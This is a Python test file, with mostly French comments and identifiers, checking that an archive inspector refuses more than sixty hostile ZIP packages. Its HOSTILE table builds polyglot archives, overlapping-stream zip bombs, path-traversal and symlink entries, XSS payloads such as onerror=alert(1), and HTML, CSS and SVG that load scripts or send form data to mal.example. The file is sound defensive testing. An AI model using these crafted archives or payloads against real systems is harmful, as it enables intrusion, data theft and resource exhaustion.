"""Archives made to deceive, byte by byte: refused with the codes expected, nothing written; ours are accepted.

tests/test_inspect.py holds the plain cases, one a rule; here are those where readers of ZIP, XML, HTML and CSS disagree.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest

from enclair import cli
from enclair.bundle import inspect_archive

LOCAL, CENTRAL, END = struct.Struct("<4s5H3L2H"), struct.Struct("<4s6H3L5H2L"), struct.Struct("<4s4H2LH")
PAGE = (
    '<!doctype html><html lang="fr"><head><title>x</title><link rel="stylesheet" href="a.css">%s</head><body>%s</body></html>'
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'
Make = Callable[[], bytes]


def provenance(files: Mapping[str, bytes]) -> bytes:
    sums = {name: hashlib.sha256(data).hexdigest() for name, data in files.items()}
    return json.dumps({"titre": "Essai", "version": "1", "date": "2026-11-23", "licence": "L", "editeur": "E", "sha256": sums}).encode()


def files(extra: Mapping[str, bytes] | None = None) -> dict[str, bytes]:
    """Return the files of a sound package, with others in it or in their place."""
    own = {"index.html": (PAGE % ("", "x")).encode(), "a.css": b"body {}", **(extra or {})}
    return {**own, "provenance.json": provenance(own)}


class Entry:
    """An entry whose every field may lie."""

    def __init__(self, name: bytes, data: bytes, **fields: int | bytes) -> None:
        self.name, self.data, self.fields = name, data, fields

    def get(self, name: str, default: int) -> int:
        """Return a field, or what it should be."""
        return int(self.fields.get(name, default))

    def stream(self) -> bytes:
        """Return the content, deflated."""
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(self.data) + packer.flush()


def archive(entries: list[Entry], *, before: bytes = b"", after: bytes = b"", comment: bytes = b"", **end: int) -> bytes:
    """Return an archive written field by field; offsets count from the start of the archive itself."""
    body, directory = bytearray(), bytearray()
    for entry in entries:
        stream, extra = entry.stream(), entry.fields.get("extra", b"")
        assert isinstance(extra, bytes)
        size, packed = entry.get("size", len(entry.data)), entry.get("packed", len(stream))
        common = (20, entry.get("flags", 0), entry.get("method", 8), 0, 33, entry.get("crc", zlib.crc32(entry.data)))
        local_name = entry.fields.get("local_name", entry.name)
        assert isinstance(local_name, bytes)
        offset = entry.get("offset", len(body))
        if "offset" not in entry.fields:
            body += LOCAL.pack(b"PK\3\4", *common, packed, size, len(local_name), 0) + local_name + stream
        directory += CENTRAL.pack(
            b"PK\1\2", 3 << 8 | 20, *common, packed, size, len(entry.name), len(extra), 0, entry.get("disk", 0), 0,
            entry.get("mode", 0o100644) << 16, offset,
        ) + entry.name + extra  # fmt: skip
    count = end.get("count", len(entries))
    tail = END.pack(b"PK\5\6", end.get("disk", 0), 0, count, count, end.get("length", len(directory)), len(body), len(comment))
    return before + bytes(body) + bytes(directory) + tail + comment + after


def sound(extra: Mapping[str, bytes] | None = None) -> list[Entry]:
    return [Entry(name.encode(), data) for name, data in files(extra).items()]


def plus(*entries: Entry, **how: int | bytes) -> Make:
    return lambda: archive([*sound(), *entries], **how)  # type: ignore[arg-type]


def holding(name: str, data: str) -> Make:
    return lambda: archive(sound({name: data.encode()}))


def body(text: str) -> Make:
    return holding("index.html", PAGE % ("", text))


def head(text: str) -> Make:
    return holding("index.html", PAGE % (text, "x"))


def unicode_path(name: bytes, path: bytes) -> bytes:
    """Return the Info-ZIP « Unicode Path » field (0x7075), which some readers believe more than the name."""
    return struct.pack("<HHBL", 0x7075, 5 + len(path), 1, zlib.crc32(name)) + path


def overlapping() -> bytes:
    """Return entries that all read the same stream: a bomb that no ratio tells (Fifield, 2019)."""
    entries = sound()
    entries.append(Entry(b"z.css", b"x" * 9_000))
    start = len(archive(entries)) - len(archive([])) - sum(46 + len(entry.name) for entry in entries) - len(entries[-1].stream()) - 35
    twins = [Entry(f"z{n}.css".encode(), b"x" * 9_000, offset=start) for n in range(40)]
    return archive([*entries, *twins])


def crowded() -> bytes:
    """Return a directory of a hundred thousand entries, none of which has a content."""
    one = CENTRAL.pack(b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    return one * 100_000 + END.pack(b"PK\5\6", 0, 0, 34_464, 34_464, len(one) * 100_000, 0, 0)


def zip64() -> bytes:
    """Return an archive whose end says to look for the real one elsewhere."""
    data = archive(sound())
    place = data.index(b"PK\5\6")
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 4, 4, 0, 0)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, place, 1)
    return data[:place] + record + locator + data[place:]


HOSTILE: dict[str, tuple[Make, set[str]]] = {
    # two readings of one archive
    "page-devant": (plus(before=b"<!doctype html><script>alert(1)</script>"), {"PAQ001"}),
    "image-devant": (plus(before=b"GIF89a" + b"\0" * 30), {"PAQ001"}),
    "pdf-devant": (plus(before=b"%PDF-1.7\n"), {"PAQ001"}),
    "programme-devant": (plus(before=b"MZ" + b"\0" * 60), {"PAQ001"}),
    "page-derriere": (plus(after=b"<script>alert(1)</script>"), {"PAQ001"}),
    "commentaire": (plus(comment=b"<script>alert(1)</script>"), {"PAQ001"}),
    "deux-archives": (lambda: archive([Entry(b"mal.html", b"x")]) + archive(sound()), {"PAQ001"}),
    "zip64": (zip64, {"PAQ001"}),
    "plusieurs-disques": (plus(disk=1), {"PAQ001"}),
    "nom-local-different": (plus(Entry(b"b.css", b"x", local_name=b"../mal.html")), {"PAQ001"}),
    "nom-unicode-different": (plus(Entry(b"b.css", b"x", extra=unicode_path(b"b.css", b"../mal.html"))), {"PAQ007"}),
    "repertoire-immense": (crowded, {"PAQ006"}),
    "flux-partages": (overlapping, {"PAQ001"}),
    "somme-fausse": (plus(Entry(b"b.css", b"x", crc=1)), {"PAQ001"}),
    "plus-petit-qu-annonce": (plus(Entry(b"b.css", b"x" * 9, size=5)), {"PAQ001"}),
    "plus-grand-qu-annonce": (plus(Entry(b"b.css", b"x", size=50)), {"PAQ001"}),
    "hors-de-l-archive": (plus(Entry(b"b.css", b"x", offset=9_999_999)), {"PAQ001"}),
    "methode-inconnue": (plus(Entry(b"b.css", b"x", method=99)), {"PAQ001"}),
    "chiffre-fort": (plus(Entry(b"b.css", b"x", flags=0x41)), {"PAQ005"}),
    "rustine": (plus(Entry(b"b.css", b"x", flags=0x20)), {"PAQ001"}),
    # names
    "lien-vers-un-dossier": (plus(Entry(b"sortie", b"/tmp", mode=0o120777), Entry(b"sortie/mal.html", b"x")), {"PAQ004", "PAQ007"}),
    "prise": (plus(Entry(b"b.css", b"", mode=0o140644)), {"PAQ004"}),
    "nom-vide": (plus(Entry(b"", b"x")), {"PAQ007"}),
    "points": (plus(Entry(b"...", b"x")), {"PAQ007"}),
    "retour-a-la-ligne": (plus(Entry(b"a\nb.css", b"x")), {"PAQ007"}),
    "commande-de-terminal": (plus(Entry(b"\x1b[2Ja.css", b"x")), {"PAQ007"}),
    "flux-ntfs": (plus(Entry(b"a.css:mal.exe", b"x")), {"PAQ007"}),
    "deux-extensions": (plus(Entry(b"mal.php.css.exe", b"x")), {"PAQ007"}),
    "dossier-qui-remonte": (plus(Entry(b"a/../../../etc/", b"")), {"PAQ002"}),
    "dossier-et-fichier": (plus(Entry(b"b.css", b"x"), Entry(b"b.css/c.css", b"x")), {"PAQ010"}),
    # pages that two parsers read differently, or that load without a script
    "commentaire-vide-html": (body("<!--><script>alert(1)</script>-->"), {"PAQ012"}),
    "commentaire-ferme-autrement": (body("<!-- a --!><script>alert(1)</script>-->"), {"PAQ012"}),
    "commentaire-conditionnel": (body("<!--[if IE]><script>alert(1)</script><![endif]-->"), {"PAQ012"}),
    "noscript": (body('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'), {"PAQ012"}),
    "noembed": (body('<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>'), {"PAQ012", "PAQ013"}),
    "template": (body("<template><b>x</b></template>"), {"PAQ012"}),
    "math": (body("<math><mi>x</mi></math>"), {"PAQ012"}),
    "rafraichissement": (head('<meta http-equiv="refresh" content="0;url=https://mal.example">'), {"PAQ012"}),
    "base": (head('<base href="https://mal.example/">'), {"PAQ012"}),
    "prechargement": (head('<link rel="preload" href="https://mal.example/x.js" as="script">'), {"PAQ012"}),
    "feuille-sans-protocole": (head('<link rel="stylesheet" href="//mal.example/x.css">'), {"PAQ012", "PAQ013"}),
    "script-sans-protocole": (head('<script src="//mal.example/x.js"></script>'), {"PAQ012", "PAQ013"}),
    "script-barre-inverse": (head('<script src="/\\mal.example/x.js"></script>'), {"PAQ012", "PAQ013"}),
    "style-importe": (head("<style>@import 'https://mal.example/x.css';</style>"), {"PAQ012"}),
    "style-en-ligne": (body('<p style="background: url(https://mal.example/x)">x</p>'), {"PAQ012"}),
    "srcset": (body('<img alt="" src="data:image/png;base64,AA==" srcset="https://mal.example/x 2x">'), {"PAQ012"}),
    "ping": (body('<a href="index.html" ping="https://mal.example">x</a>'), {"PAQ012"}),
    "formulaire": (body('<form action="https://mal.example"><input name="mdp"></form>'), {"PAQ012"}),
    "bouton": (body('<button formaction="javascript:alert(1)">x</button>'), {"PAQ012"}),
    "fond": (body('<table background="https://mal.example/x"><tr><td>x</table>'), {"PAQ012"}),
    "objet": (body('<object data="https://mal.example/x.svg"></object>'), {"PAQ012"}),
    # styles and images
    "css-import": (holding("b.css", "@import url(//mal.example/x.css);"), {"PAQ012"}),
    "css-adresse": (holding("b.css", "a { background: url( 'https://mal.example/x' ) }"), {"PAQ012"}),
    "css-echappee": (holding("b.css", r"a { background: \75\72\6c(https://mal.example/x) }"), {"PAQ012"}),
    "css-commentee": (holding("b.css", "a { background: url(/**/https://mal.example/x) }"), {"PAQ012"}),
    "svg-feuille": (holding("b.svg", '<?xml-stylesheet href="x.xsl" type="text/xsl"?>' + SVG % ""), {"PAQ012"}),
    "svg-animation": (holding("b.svg", SVG % '<a><set attributeName="href" to="javascript:alert(1)"/></a>'), {"PAQ012"}),
    "svg-corps-etranger": (holding("b.svg", SVG % "<foreignObject><b/></foreignObject>"), {"PAQ012"}),
    "svg-use-ailleurs": (holding("b.svg", SVG % '<use xlink:href="https://mal.example/x.svg#a"/>'), {"PAQ012"}),
    "svg-image-ailleurs": (holding("b.svg", SVG % '<image href="//mal.example/x"/>'), {"PAQ012", "PAQ013"}),
    "svg-style": (holding("b.svg", SVG % "<style>@import '//mal.example/x';</style>"), {"PAQ012"}),
}  # fmt: skip


@pytest.fixture
def writings() -> Iterator[list[str]]:
    """What is written anywhere while the list is watched."""
    seen: list[str] = []
    watching = [True]

    def watch(event: str, args: tuple[object, ...]) -> None:
        is_write = event == "open" and isinstance(args[1], str) and set("wax+") & set(args[1])
        if watching[0] and (is_write or event in {"os.mkdir", "os.rename", "os.symlink", "os.link", "os.remove"}):
            seen.append(f"{event} {args}")

    sys.addaudithook(watch)
    yield seen
    watching[0] = False


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_archive_is_refused(tmp_path: Path, writings: list[str], name: str) -> None:
    """The set of codes is the one expected, and nothing is written, here or elsewhere."""
    make, codes = HOSTILE[name]
    path = tmp_path / "essai.zip"
    path.write_bytes(make())
    writings.clear()
    report = inspect_archive(path)
    assert writings == []
    assert [other.name for other in tmp_path.iterdir()] == ["essai.zip"]
    assert {problem.code for problem in report.problems} == codes, report.problems
    assert all(str(problem).isprintable() for problem in report.problems)


def test_maker_of_archives_makes_sound_ones(tmp_path: Path) -> None:
    """Nothing of what is refused above comes from the way these archives are written."""
    path = tmp_path / "essai.zip"
    path.write_bytes(archive(sound()))
    assert inspect_archive(path).problems == ()
    with zipfile.ZipFile(path) as opened:
        assert opened.testzip() is None


def test_our_packages_are_accepted(built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Every package of a build is sound, for the function and for the command."""
    packages = sorted((built / "dist").glob("*.zip"))
    assert len(packages) > 3
    for path in packages:
        assert inspect_archive(path).problems == ()
        with pytest.raises(SystemExit) as stopped:
            cli.main(["inspect", str(path)])
        assert not stopped.value.code
    spoilt = tmp_path / "essai.zip"
    shutil.copy(packages[0], spoilt)
    spoilt.write_bytes(b"GIF89a" + spoilt.read_bytes())
    with pytest.raises(SystemExit) as stopped:
        cli.main(["inspect", str(spoilt)])
    assert stopped.value.code == 1
    assert "PAQ001" in capsys.readouterr().out


def test_archives_are_many() -> None:
    """At least 30 hostile archives."""
    assert len(HOSTILE) >= 30
